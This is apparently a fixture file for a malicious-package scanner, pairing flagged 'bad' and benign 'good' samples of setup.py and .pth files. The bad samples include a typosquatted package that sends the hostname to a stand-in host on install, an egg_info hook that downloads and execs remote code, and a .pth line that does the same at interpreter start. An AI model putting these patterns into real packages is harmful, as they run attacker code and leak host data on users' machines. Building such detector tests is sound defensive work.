#: bad setup-request as setup.py
import platform
import socket
import urllib.request
from setuptools import find_packages, setup

urllib.request.urlopen(  #!
    "http://stats.example.invalid/?h=" + socket.gethostname() + "&p=" + platform.node()
)

setup(name="reqests-toolkit", version="9.9.9", packages=find_packages())

#: good setup-request as setup.py
import platform
import re
from pathlib import Path
from setuptools import find_packages, setup

if platform.python_implementation() == "PyPy":
    print("extensions are not built on PyPy")
version = re.search(r'"(.+)"', Path("src/toolkit/_version.py").read_text())[1]

setup(name="requests-toolkit", version=version, packages=find_packages("src"))

#: bad egg-info as setup.py
import os
import setuptools
from setuptools.command.egg_info import egg_info as base


class egg_info(base):
    def run(self):
        os.system("python -c 'import urllib.request as u;exec(u.urlopen(\"http://a.example.invalid\").read())'")  #!
        base.run(self)


setuptools.setup(name="tensrflow-io", version="2.0", cmdclass=dict(egg_info=egg_info))

#: good egg-info as setup.py
import os
import setuptools
from setuptools.command.egg_info import egg_info as base


class egg_info(base):
    def run(self):
        os.makedirs("generated", exist_ok=True)
        base.run(self)


setuptools.setup(name="tensorflow-notes", version="2.0", cmdclass=dict(egg_info=egg_info))

#: bad pth-line as speedups.pth
import os, urllib.request; exec(urllib.request.urlopen("http://p.example.invalid/b").read())  #!

#: good pth-line as speedups.pth
../shared/site-packages
vendor/libs
